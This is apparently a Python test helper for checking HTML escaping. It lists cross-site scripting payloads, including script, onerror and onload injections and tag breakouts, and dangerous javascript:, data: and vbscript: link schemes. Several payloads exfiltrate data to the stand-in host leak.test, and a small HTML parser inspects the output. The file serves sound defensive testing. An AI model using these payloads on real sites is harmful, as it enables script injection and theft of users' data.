"""Texts that try to become more than text where they are shown, and a reader of HTML."""

from html.parser import HTMLParser
from typing import override

ATTACKS = [
    "<script>document.title='hacked'</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<img src=https://leak.test/?d=SECRET>",
    "<link rel=stylesheet href=https://leak.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://leak.test/'>",
    "<style>*{background:url(https://leak.test/css)}</style>",
    "<form action=https://leak.test/><input name=k></form>",
    "<base href=https://leak.test/>",
    "<details open ontoggle=alert(1)>x",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e\u0000\u001b[31m\ud800",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
]


class HtmlReader(HTMLParser):
    """An independent reader: the texts, the elements and the attributes of a document."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(document)

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    @override
    def handle_data(self, data: str) -> None:
        self.text += data
